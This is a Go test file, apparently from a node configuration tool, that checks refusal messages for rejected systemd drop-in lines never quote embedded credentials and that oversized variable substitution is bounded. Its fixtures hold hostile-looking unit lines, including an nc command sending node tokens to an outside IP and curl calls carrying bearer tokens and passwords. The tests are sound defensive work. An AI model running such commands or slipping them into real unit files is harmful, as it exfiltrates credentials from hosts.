package plan_test

import (
	"strings"
	"testing"

	"github.com/coreos/ignition/v2/config/v3_5/types"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// A refused unit line is named in the reason without the credential it holds (adversary r21 c: a
// refused ExecStart= was quoted whole, its bearer token with it, into the reason, the logs, the
// Node's annotation and Events); the line is still named by its key, program and paths.
func TestARefusedLineNeverQuotesItsCredential(t *testing.T) {
	const token = "eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.c2lnbmF0dXJlMTIzNDU2Nzg5"
	for name, tc := range map[string]struct{ line, names string }{
		"a header":    {`ExecStartPre=/bin/sh -c 'curl -H "Authorization: Bearer ` + token + `" http://x > /run/openvswitch.useropts'`, "/run/openvswitch.useropts"},
		"an option":   {`ExecStartPre=/usr/bin/evil --token=` + token, "/usr/bin/evil"},
		"an argument": {`ExecStartPre=/bin/sh -c 'eval $(echo ` + token + `)'`, "eval"},
		"a variable":  {"Environment=T=" + token + "\nExecStartPre=/usr/bin/evil $T", "/usr/bin/evil"},
	} {
		t.Run(name, func(t *testing.T) {
			p := rootBuild(t, round12OVSPolicy, nodeRoot(t, round12OVSNode), plain(), ovsDropin(tc.line+"\n"))
			require.NotEmpty(t, p.Refused)
			for _, r := range p.Refused {
				for _, part := range append(strings.Split(token, "."), token) {
					assert.NotContains(t, r.Reason, part)
				}
				assert.Contains(t, r.Reason, "ExecStartPre=")
				assert.Contains(t, r.Reason, tc.names)
			}
		})
	}
}

// A refusal never quotes the node's own unit lines nor the node's values substituted into the
// payload's (adversary r22 c/03: a one-line drop-in had the refusal quote the node's podman login
// -p; c/04: ${API_TOKEN} of the node's Environment= came back substituted), nor a token the
// redaction split at - or . (c/02: a UUID, a Slack token, a spelled password).
func TestARefusalNamesTheNodesLinesWithoutTheirValues(t *testing.T) {
	const pol = "nodeDisruptionPolicy:\n  units:\n  - name: myapp.service\n    actions: [{type: Restart, restart: {serviceName: myapp.service}}]\n"
	secrets := []string{"3f2a9c0d-1e4b-4c5d-8e9f-0a1b2c3d4e5f", "Winter2024xyz", "xoxb-123456789012-1234567890123-AbCdEfGhIjKl", "p4ssw0rd.S3cr3t.T0k3n"}
	node := map[string]string{"/etc/systemd/system/myapp.service": "[Service]\n" +
		"Environment=API_TOKEN=" + secrets[0] + "\nEnvironment=PW=" + secrets[1] + "\n" +
		"ExecStartPre=/usr/bin/podman login -u admin -p " + secrets[0] + " quay.io\nExecStart=/bin/sleep infinity\n"}
	for name, dropin := range map[string]string{
		"a trivial drop-in":      "[Service]\nExecStartPre=/bin/true\n",
		"the node's variables":   "[Service]\nExecStartPre=/usr/bin/nc 1.2.3.4 80 ${API_TOKEN} ${PW}\n",
		"tokens split at - or .": "[Service]\nExecStartPre=/usr/bin/curl -H \"X-Slack: " + secrets[2] + "\" -u " + secrets[3] + " http://x\n",
	} {
		t.Run(name, func(t *testing.T) {
			des := withUnits(unit("myapp.service", nil, types.Dropin{Name: "50-x.conf", Contents: str(dropin)}))
			p := rootBuild(t, pol, nodeRoot(t, node), plain(), des)
			require.NotEmpty(t, p.Refused)
			for _, r := range p.Refused {
				for _, s := range secrets {
					assert.NotContains(t, r.Reason, s)
				}
				assert.Contains(t, r.Reason, "ExecStartPre=/usr/bin/", "the line is still named by its program")
			}
		})
	}
}

// Variables substituted into many words are bounded by the bytes the judge would read, not only by
// the words as written (adversary r22 c/05: one 125 KB variable in 16 000 words, 2 GB to judge; here 60 KB in 8 000).
func TestSubstitutedCommandsAreBounded(t *testing.T) {
	// Lines of a unit file are at most 2047 bytes: continued, as the adversary's were.
	long := func(unit string, n int) string { return strings.TrimSuffix(strings.Repeat(unit+"\\\n", n), "\\\n") }
	dropin := "[Service]\nEnvironment=\"A=" + long(strings.Repeat("x", 1000), 60) + "\"\nExecStartPre=/bin/echo " +
		long(strings.TrimSpace(strings.Repeat("${A} ", 300)), 26) + "\n"
	p := rootBuild(t, round12OVSPolicy, nodeRoot(t, round12OVSNode), plain(), ovsDropin(strings.TrimPrefix(dropin, "[Service]\n")))
	require.NotEmpty(t, p.Refused)
	assert.Contains(t, p.Refused[0].Reason, "once the unit's variables are substituted")
}

// Round 24 (a/12): a password written with symbols (@ ! % # ^), which the token rule split into
// parts too short to weigh, is shown by its length, URL-encoded or not.
func TestARefusedLineNeverQuotesASymbolPassword(t *testing.T) {
	for _, pw := range []string{"S3cr3t@Passw0rd!x", "Tr0ub4dor%263Horse%24Staple9", "S3cr3t%40Passw0rd%21x", "hunter2#Abc"} {
		line := `ExecStartPre=/bin/sh -c 'curl -u admin:` + pw + ` http://x > /run/openvswitch.useropts'`
		p := rootBuild(t, round12OVSPolicy, nodeRoot(t, round12OVSNode), plain(), ovsDropin(line+"\n"))
		require.NotEmpty(t, p.Refused)
		for _, r := range p.Refused {
			assert.NotContains(t, r.Reason, pw)
			assert.Contains(t, r.Reason, "/run/openvswitch.useropts")
		}
	}
}
